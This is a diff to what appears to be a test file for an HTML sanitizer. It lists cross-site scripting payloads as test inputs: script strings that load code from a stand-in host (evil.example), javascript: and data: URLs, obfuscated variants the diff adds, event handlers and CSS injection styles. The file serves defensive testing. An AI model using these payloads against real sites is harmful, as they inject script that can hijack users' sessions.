@@ -6,7 +6,7 @@ import { cleanHtml, cleanLine, foreignPictures, foreignVideos, isEmptyBody, isOw
 const scripts = ['alert(1)', 'import("//evil.example/x.js")', 'eval(atob("YQ=="))'];
 const tags = ['img', 'a', 'p', 'body', 'video', 'audio', 'details', 'svg', 'math', 'input', 'marquee', 'object', 'table', 'iframe'];
 const events = ['onerror', 'onload', 'onclick', 'ontoggle', 'onfocus', 'onpointerenter', 'onanimationstart', 'onbegin', 'ONERROR', 'on\u0000error'];
-const urls = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', '&#106;avascript:alert(1)', ' javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:x', '\u0001javascript:alert(1)', '//evil.example/x', 'file:///etc/passwd', 'blob:x'];
+const urls = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', '&#106;avascript:alert(1)', ' javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:x', '\u0001javascript:alert(1)', '//evil.example/x', 'file:///etc/passwd', 'blob:x', '\u00a0javascript:alert(1)', '\u200b\ufeffjavascript:alert(1)', '\tjava\nscript:alert(1)', '\u3000data:text/html,x'];
 const styles = ['position:fixed;top:0', 'background:url(//evil.example/x)', 'width:expression(alert(1))', 'z-index:999999', 'behavior:url(x.htc)', '-moz-binding:url(x)', 'color:red;position:absolute', 'background-color:url(x)', 'font-family:"x";position:sticky', 'line-height:9999', 'text-indent:-9999px', 'color:re\\64'];
 const embeds = (inside: string) => [`<section data-embed="raw">${inside}</section>`, `<p>前<section data-embed="raw">${inside}</section>后`];
 const shapes = [
